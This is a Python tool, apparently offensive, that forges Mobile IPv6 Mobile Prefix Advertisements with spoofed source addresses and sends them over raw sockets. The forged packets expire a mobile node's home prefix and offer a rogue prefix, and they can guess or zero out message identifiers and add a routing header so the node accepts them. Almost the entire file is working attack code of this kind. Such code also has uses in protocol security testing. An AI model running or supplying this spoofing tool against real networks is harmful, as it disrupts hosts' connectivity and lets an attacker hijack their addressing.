#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends Mobile Prefix Advertisements that no home agent has sent: they end the home prefix, and offer another one.

    mpa.py --src ADDRESS --coa ADDRESS --hoa ADDRESS --prefix PREFIX/LEN [--any-id] [--no-rt2] [--count N]

Identifiers are 0 with --any-id, else random ones, N of them. --no-rt2 sends to the care-of address without a routing header.
"""

import argparse
import random
import socket
import struct


def checksum(src, dst, body):
    data = src + dst + struct.pack("!II", len(body), 58) + body + b"\0" * (len(body) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def option(prefix, length, valid, preferred):
    return struct.pack("!BBBBIII", 3, 4, length, 0xC0, valid, preferred, 0) + prefix


def main():
    parser = argparse.ArgumentParser(description="forged Mobile Prefix Advertisements")
    for name in ("--src", "--coa", "--hoa", "--prefix"):
        parser.add_argument(name, required=True)
    parser.add_argument("--any-id", action="store_true")
    parser.add_argument("--no-rt2", action="store_true")
    parser.add_argument("--count", type=int, default=1)
    args = parser.parse_args()
    src, coa, hoa = (socket.inet_pton(socket.AF_INET6, a) for a in (args.src, args.coa, args.hoa))
    prefix, length = args.prefix.split("/")
    options = option(socket.inet_pton(socket.AF_INET6, prefix), int(length), 30, 0)
    options += option(socket.inet_pton(socket.AF_INET6, "2001:db8:bad::"), int(length), 600, 300)
    dst = coa if args.no_rt2 else hoa
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(args.count):
        number = 0 if args.any_id else random.randrange(65536)
        body = struct.pack("!BBHHH", 147, 0, 0, number, 0) + options
        body = body[:2] + struct.pack("!H", checksum(src, dst, body)) + body[4:]
        payload, proto = body, 58
        if not args.no_rt2:
            payload, proto = struct.pack("!BBBBI", 58, 2, 2, 1, 0) + hoa + body, 43
        head = struct.pack("!IHBB", 6 << 28, len(payload), proto, 64) + src + coa
        s.sendto(head + payload, (args.coa, 0))


if __name__ == "__main__":
    main()
